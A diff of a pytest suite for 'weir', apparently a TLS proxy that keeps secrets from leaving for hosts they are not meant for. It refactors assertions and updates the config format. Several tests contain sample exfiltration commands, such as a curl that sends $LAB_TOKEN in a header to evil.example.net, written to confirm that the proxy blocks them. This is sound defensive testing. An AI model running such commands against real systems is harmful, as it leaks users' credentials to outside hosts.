@@ -122,10 +122,8 @@ def test_only_the_tlsproxy_holds_the_value(weir, lab):
             capture_output=True, text=True, check=True).stdout)
         mine = descendants(p.pid)
         holders = {int(f.split()[0]) for f in scan["found"]} & set(mine)
-        sleeper = {pid for pid in mine if "sleep 30" in command(pid)}
-        assert sleeper and not holders & sleeper, (scan, children)
-        # The supervisor's own environment holds it: the user put it there. Apart from it, one.
-        assert len(holders - {p.pid}) <= 1, (scan["found"], children)
+        assert len(holders) == 1 and p.pid not in holders, (scan["found"], children)
+        assert os.path.basename(os.readlink("/proc/%d/exe" % holders.pop())) == "weir", children
     finally:
         p.terminate()
         p.wait(10 * SLACK)
@@ -165,7 +163,13 @@ def refused(r, lab, kinds=("secret",), server=None):
         e.get("event") == "violation" or e.get("verdict") in ("deny", "fail") or
         e.get("outcome") not in (None, "forwarded"))], r
     if server:
-        assert not [e for e in lab.seen("http") if e["server"] == server], lab.seen("http")
+        whole_requests_to(lab, server)
+
+
+def whole_requests_to(lab, server):
+    """A head may have gone before its body was read; a request never arrives whole."""
+    seen = [e for e in lab.seen("http", server=server) if "broken" not in e]
+    assert not seen, seen
 
 
 EXFILTRATION = {
@@ -203,8 +207,7 @@ def test_split_placeholder_is_still_seen(weir, lab, how):
     r = weir.guest("split", "evil.example.net", "/x", "LAB_TOKEN", how, policy=EVERYTHING,
                    flags=secret(ALL))
     refused(r, lab)
-    whole = [e for e in lab.seen("http", server="evil.example.net") if "broken" not in e]
-    assert not whole, whole
+    whole_requests_to(lab, "evil.example.net")
 
 
 def test_wrong_host_header(weir, lab):
@@ -268,7 +271,7 @@ def test_replies_are_scrubbed(weir, lab):
 
 def test_terminate(weir, lab):
     config = {"policy": {"default_egress": "allow"}, "secrets": [
-        {"env": "LAB_TOKEN", "from": {"env": "LAB_TOKEN"}, "hosts": ["api.example.com"],
+        {"env": "LAB_TOKEN", "from": "env:LAB_TOKEN", "hosts": ["api.example.com"],
          "on_violation": "block_and_terminate"}]}
     r = weir.sh("curl -sS -m 5 -H \"X: $LAB_TOKEN\" https://evil.example.net/; sleep 20; echo alive",
                 policy=None, flags=["--config", weir.file("c.json", config)])
@@ -278,7 +281,7 @@ def test_terminate(weir, lab):
 
 def test_passthrough_forwards_the_placeholder(weir, lab):
     config = {"policy": {"default_egress": "allow"}, "secrets": [
-        {"env": "LAB_TOKEN", "from": {"env": "LAB_TOKEN"}, "hosts": ["api.example.com"],
+        {"env": "LAB_TOKEN", "from": "env:LAB_TOKEN", "hosts": ["api.example.com"],
          "on_violation": "passthrough"}]}
     r = weir.sh("curl -sS -m 5 -H \"X: $LAB_TOKEN\" https://evil.example.net/; echo \"MINE $LAB_TOKEN\"",
                 policy=None, flags=["--config", weir.file("c.json", config)])
@@ -287,7 +290,7 @@ def test_passthrough_forwards_the_placeholder(weir, lab):
     assert lab.token not in lab.seen_text()
 
 
-@pytest.mark.parametrize("value", ["short", "has space in it", "tab\there-and-more", "x" * 5000,
+@pytest.mark.parametrize("value", ["s3cr3t!", "has space in it", "tab\there-and-more", "x" * 5000,
                                    "non-ascii-é-value"],
                          ids=["short", "space", "tab", "long", "non-ascii"])
 def test_values_that_cannot_be_used_are_refused(weir, value):
